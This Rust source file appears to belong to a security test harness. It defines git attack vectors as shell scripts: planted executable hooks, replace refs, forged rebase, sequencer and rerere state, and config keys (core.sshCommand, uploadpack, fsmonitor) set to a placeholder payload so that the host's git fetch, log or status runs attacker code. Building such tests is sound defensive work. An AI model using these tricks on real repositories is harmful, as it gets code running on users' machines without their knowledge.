//! Files that keep every name of a commit, and change what git on the host takes the commit to be.

use super::vector::{FilePayload, GitScope, GitSetting, GitVector, WriteTrick, compose};

const PLAIN: GitScope = GitScope::PLAIN;

/// User's preparation: hooks in the work tree, and a rebase that waits before its last commit.
const REBASE: &str = r#"(
    cd w
    mkdir .githooks
    printf '#!/bin/sh\n' > .githooks/pre-commit
    chmod +x .githooks/pre-commit
    git config core.hooksPath .githooks
    seq 60 > notes
    git add .githooks notes; git commit -q -m hooks
    echo 1 > one; git add one; git commit -q -m one
    echo 61 >> notes; git commit -q -a -m two
    GIT_SEQUENCE_EDITOR='sed -i 1s/pick/edit/' git rebase -q -i HEAD~2 2> /dev/null
    test -d .git/rebase-merge
)"#;

/// Script that sets the author and makes `$scratch`, which must be unique because the control runs
/// several scripts concurrently in the same `/tmp`.
const SET_UP: &str = "
export GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x
scratch=$(mktemp -d)
trap 'rm -rf \"$scratch\"' EXIT";

/// Script that makes `$other`, which is the commit `$picked` with additional hooks.
const OTHER_COMMIT: &str = "
hook=$(git hash-object -w \"$W/.evil/m\")
export GIT_INDEX_FILE=$scratch/index
git read-tree $picked
for name in post-commit post-checkout reference-transaction; do
    git update-index --add --cacheinfo 100755,$hook,.githooks/$name
done
other=$(git commit-tree -p $picked^ -m other $(git write-tree))
unset GIT_INDEX_FILE";

const PICKED: &str = "
picked=$(git rev-parse $(sed -n 's/^pick \\([0-9a-f]*\\).*/\\1/p' \
.git/rebase-merge/git-rebase-todo))";

/// Script that renames the file that the next commit changes to the name of a hook, in the index.
const RENAMED: &str = "
hook=$( (cat .evil/m; echo exit; cat notes) | git hash-object -w --stdin)
git rm -q notes
git update-index --add --cacheinfo 100755,$hook,.githooks/post-commit
git update-index --assume-unchanged .githooks/post-commit";

/// Script that makes a repository that only a commit names, and makes `git fetch` take that commit
/// as new.
const FETCHED: &str = r#"
for number in $(seq 100 145); do mkdir "0$number"; done
git init -q z/lib
git -C z/lib config core.sshCommand '@M@'
git -C z/lib config remote.origin.url ssh://nowhere/x
tip=$(git rev-parse refs/remotes/origin/main)
printf '[submodule "sub"]\n\tpath = z/lib\n\turl = x\n' > $scratch/modules
export GIT_INDEX_FILE=$scratch/index
git read-tree $tip
git update-index --add --cacheinfo 100644,$(git hash-object -w $scratch/modules),.gitmodules
git update-index --add --cacheinfo 160000,1234567812345678123456781234567812345678,z/lib
base=$(git commit-tree -m base "$tip^{tree}")
other=$(git commit-tree -p $base -m other $(git write-tree))
unset GIT_INDEX_FILE
git rm -q --cached sub
git update-ref refs/replace/$tip $other
git symbolic-ref HEAD refs/heads/other
git update-ref -d refs/heads/main
rm -rf .git/packed-refs .git/refs/remotes"#;

/// User's preparation: hooks in the work tree, and a rebase of merges that waits at its first
/// label.
const REBASE_OF_MERGES: &str = r#"(
    cd w
    mkdir .githooks
    printf '#!/bin/sh\n' > .githooks/pre-commit
    chmod +x .githooks/pre-commit
    git config core.hooksPath .githooks
    git add .githooks; git commit -q -m hooks
    git checkout -q -b topic; echo 1 > one; git add one; git commit -q -m one
    git checkout -q main; echo 2 > two; git add two; git commit -q -m two
    git merge -q --no-ff -m merge topic
    GIT_SEQUENCE_EDITOR="sed -i 's/^label onto/&\\nbreak/'" git rebase -q -i -r HEAD~2 2> /dev/null
    test -d .git/refs/rewritten
)"#;

/// User's preparation: hooks in the work tree, and a rebase whose list begins anew without a parent
/// and names a branch.
const REBASE_OF_ROOT: &str = concat!(
    r#"(
    cd w
    mkdir .githooks
    printf '#!/bin/sh\n' > .githooks/pre-commit
    chmod +x .githooks/pre-commit
    git config core.hooksPath .githooks
    git add .githooks; git commit -q -m hooks
    printf 'break\nreset [new root]\nreset side\nmerge -C %s main~1 # x\n' $(git rev-parse HEAD) "#,
    r#"> ../list
    GIT_SEQUENCE_EDITOR='cp ../list' git rebase -q -i --root 2> /dev/null
    test -e .git/rebase-merge/squash-onto
)"#
);

/// User's preparation: picks of two commits, of which the first one conflicts. The list of the
/// sequence abbreviates the names of the commits.
const PICKS: &str = r#"(
    cd w
    mkdir .githooks
    printf '#!/bin/sh\n' > .githooks/pre-commit
    chmod +x .githooks/pre-commit
    git config core.hooksPath .githooks
    git add .githooks; git commit -q -m hooks
    git checkout -q -b topic; echo 1 > one; git add one; git commit -q -m one
    echo 2 > two; git add two; git commit -q -m two
    git checkout -q main; echo other > one; git add one; git commit -q -m other
    git cherry-pick topic~1 topic > /dev/null 2>&1 || true
    test -d .git/sequencer
)"#;

/// User's preparation: a rebase that waits before a commit that conflicts in a hook.
const REBASE_OF_HOOK: &str = r#"(
    cd w
    mkdir .githooks
    printf '#!/bin/sh\necho a\n' > .githooks/post-index-change
    chmod +x .githooks/post-index-change
    git config core.hooksPath .githooks
    git add .githooks; git commit -q -m hooks
    git checkout -q -b topic; echo 1 > one; git add one; git commit -q -m one
    printf '#!/bin/sh\necho topic\n' > .githooks/post-index-change; git commit -q -a -m topic
    git checkout -q main
    printf '#!/bin/sh\necho main\n' > .githooks/post-index-change; git commit -q -a -m main
    git checkout -q topic
    GIT_SEQUENCE_EDITOR='sed -i 1s/pick/edit/' git rebase -q -i main > /dev/null 2>&1
    test -d .git/rebase-merge
)"#;

/// Script that records, in a copy of the repository, a resolution that makes the marker the hook.
const RESOLUTION: &str = concat!(
    r#"
git init -q $scratch/copy; cp -r .git/objects $scratch/copy/.git
head=$(git rev-parse HEAD); topic=$(git rev-parse topic)
(
    cd $scratch/copy
    git config rerere.enabled true
    git checkout -q $head
    git cherry-pick $topic > /dev/null 2>&1
    cp "$W/.evil/m" .githooks/post-index-change
    git add .githooks; git rerere; git commit -q -m x
)
mkdir -p .git/rr-cache
for name in $(ls $scratch/copy/.git/rr-cache); do
    mkdir -p .git/rr-cache/$name
    for file in preimage postimage; do cat $scratch/copy/.git/rr-cache/$name/$file > "#,
    r#".git/rr-cache/$name/$file; done
done"#
);

/// Script that makes a partial clone far down and a commit that names the clone, and writes the
/// commit directly into the file of the branch.
const SHOWN: &str = r#"
git init -q z/lib
git -C z/lib config core.repositoryformatversion 1
git -C z/lib config extensions.partialClone p
git -C z/lib config remote.p.url "$W/z/lib"
git -C z/lib config remote.p.promisor true
git -C z/lib config remote.p.uploadpack '@M@'
export GIT_INDEX_FILE=$scratch/index
git read-tree HEAD; git rm -q -r --cached z/lib
git update-index --add --cacheinfo 160000,1234567812345678123456781234567812345678,z/lib
other=$(git commit-tree -p HEAD -m x $(git write-tree))
echo $other > .git/refs/heads/main"#;

/// User's preparation: many directories, and one behind them that becomes a repository.
const MANY_DIRECTORIES: &str = "
for number in $(seq 100 145); do mkdir w/0$number; : > w/0$number/x; done
mkdir -p w/z/lib; : > w/z/lib/x; git -C w add .; git -C w commit -q -m many";

/// Script that makes all of a repository but its references. Git on the host does not take the
/// result for a repository.
const UNFINISHED: &str = concat!(
    r#"
git init -q $scratch/new
rm -rf $scratch/new/.git/refs $scratch/new/.git/hooks
mkdir -p z; rm -rf z/new; mkdir z/new
cp -r $scratch/new/.git z/new/unfinished
printf '[core]\n\tbare = false\n\trepositoryformatversion = 0\n\tfsmonitor = @M@\n' > "#,
    r#"z/new/unfinished/config"#
);

/// Script that adds the references to the unfinished repository, and names it `.git`.
const FINISHED: &str = r#"
mkdir -p z/new/unfinished/refs/heads
mv z/new/unfinished z/new/.git"#;

/// Returns all vectors of this module.
pub(super) fn vectors() -> Vec<GitVector> {
    let rebase = GitScope { prepare: REBASE, ..PLAIN };
    let replace = "\ngit update-ref refs/replace/$picked $other";
    let in_submodule = "\ncd sub; picked=$(git -C .. rev-parse :sub)";
    let submodule = GitScope {
        template: "super-sub",
        prepare: "git -C w/sub config core.hooksPath .githooks; mkdir w/sub/.githooks",
        ..PLAIN
    };
    let fetching = GitScope { template: "super-sub", prepare: "git -C w fetch -q", ..PLAIN };
    let proceed = "git rebase --continue";
    let cases = [
        ("replaced", rebase, ".git/refs/replace", [PICKED, OTHER_COMMIT, replace, ""], proceed),
        (
            "replaced-and-packed",
            rebase,
            ".git/packed-refs",
            [PICKED, OTHER_COMMIT, replace, "\ngit pack-refs --all"],
            proceed,
        ),
        (
            "other-head",
            rebase,
            ".git/rebase-merge",
            [
                RENAMED,
                "\ngit update-ref --no-deref HEAD $(git commit-tree -p HEAD -m x $(git \
                 write-tree))",
                "",
                "",
            ],
            proceed,
        ),
        ("other-index", rebase, ".git/rebase-merge", [RENAMED, "", "", ""], proceed),
        (
            "replaced-in-submodule",
            submodule,
            ".git/modules/sub/refs/replace",
            [in_submodule, OTHER_COMMIT, replace, ""],
            "git submodule update",
        ),
        ("fetched", fetching, "z/lib/.git", [FETCHED, "", "", ""], "git fetch"),
    ];
    let mut vectors = sequences();
    vectors.extend(far_repositories());
    for (name, scope, file, scripts, host) in cases {
        let scope = GitScope { name: "meaning", file, ..scope };
        let setting = GitSetting { name, config: "", extra: "", host };
        let mut vector = compose(
            &scope,
            &setting,
            FilePayload::Whole(""),
            &WriteTrick::scripted("plain", None, ""),
        );
        vector.add_to_last_run(&format!("{SET_UP}{}\n", scripts.concat()));
        vectors.push(vector);
    }
    vectors
}

/// Returns the vectors with files beside the list of a sequence that decide which commits the list
/// means.
fn sequences() -> Vec<GitVector> {
    let head = "\npicked=$(git rev-parse main)";
    let label = "\nfor label in .git/refs/rewritten/*; do echo $other > $label; done";
    let packed = "\n(echo '# pack-refs with: peeled fully-peeled sorted '
        for label in .git/refs/rewritten/*; do echo \"$other refs/rewritten/${label##*/}\"; done) \
        > .git/packed-refs
        rm -r .git/refs/rewritten";
    let abbreviated = "\npicked=$(git rev-parse topic)
        git update-ref --no-deref refs/heads/$(sed -n '$s/^pick \\([0-9a-f]*\\).*/\\1/p' \
        .git/sequencer/todo) $other";
    let proceed = "git rebase --continue";
    let pick = "git checkout --theirs one; git add one; git cherry-pick --continue";
    let resolve = "git rebase --continue; git status; git add .githooks; git rebase --continue";
    let picked = "\npicked=$(git rev-parse topic)";
    let (rebase, sequencer, resolutions) = (".git/rebase-merge", ".git/sequencer", ".git/rr-cache");
    let existing = "\n: # the directory is the user's";
    let cases = [
        ("label", REBASE_OF_MERGES, rebase, [head, OTHER_COMMIT, label], proceed),
        ("label-packed", REBASE_OF_MERGES, rebase, [head, OTHER_COMMIT, packed], proceed),
        (
            "new-root",
            REBASE_OF_ROOT,
            rebase,
            [head, OTHER_COMMIT, "\necho $other > .git/rebase-merge/squash-onto"],
            proceed,
        ),
        (
            "named-branch",
            REBASE_OF_ROOT,
            rebase,
            [head, OTHER_COMMIT, "\necho $other > .git/refs/heads/side"],
            proceed,
        ),
        ("abbreviated-commit", PICKS, sequencer, [picked, OTHER_COMMIT, abbreviated], pick),
        ("resolution", REBASE_OF_HOOK, resolutions, [RESOLUTION, "", ""], resolve),
        (
            "resolution-in-directory",
            REBASE_OF_HOOK,
            resolutions,
            [RESOLUTION, existing, ""],
            resolve,
        ),
    ];
    let mut vectors = Vec::new();
    for (name, prepare, file, scripts, host) in cases {
        let scope = GitScope { name: "sequence", prepare, file, ..PLAIN };
        let setting = GitSetting { name, config: "", extra: "", host };
        let mut vector = compose(
            &scope,
            &setting,
            FilePayload::Whole(""),
            &WriteTrick::scripted("plain", None, ""),
        );
        if scripts[1] == existing {
            vector.prepare.push_str("mkdir w/.git/rr-cache\n");
        }
        vector.add_to_last_run(&format!("{SET_UP}{}\n", scripts.concat()));
        vectors.push(vector);
    }
    vectors
}

/// Returns the vectors with repositories far down in a workspace that only a commit names.
fn far_repositories() -> Vec<GitVector> {
    let shown = GitScope { name: "meaning", prepare: MANY_DIRECTORIES, file: "z/lib", ..PLAIN };
    let mut vectors = Vec::new();
    for value in ["log", "diff"] {
        let name = format!("shown-{value}").leak();
        let setting = GitSetting { name, config: "", extra: "", host: "git log -p" };
        let mut vector = compose(
            &shown,
            &setting,
            FilePayload::Whole(""),
            &WriteTrick::scripted("plain", None, ""),
        );
        // Make the files beforehand, so that the run makes no new file in a directory that is
        // searched anyway.
        vector
            .prepare
            .push_str("mkdir -p w/.evil/hooks; touch w/.evil/m w/.evil/config w/.evil/payload\n");
        vector.prepare.push_str(&format!("git config --global diff.submodule {value}\n"));
        vector.add_to_last_run(&format!("{SET_UP}{SHOWN}\n"));
        vectors.push(vector);
    }
    let scope = GitScope {
        name: "meaning",
        template: "super-sub",
        prepare: MANY_DIRECTORIES,
        file: "z/new",
        ..PLAIN
    };
    let setting =
        GitSetting { name: "finished", config: "", extra: "", host: "cd z/new && git status" };
    let first = format!("{SET_UP}{UNFINISHED}\n").leak();
    let trick = WriteTrick::scripted("in-two-runs", Some(first), FINISHED);
    vectors.push(compose(&scope, &setting, FilePayload::Whole(""), &trick));
    vectors
}
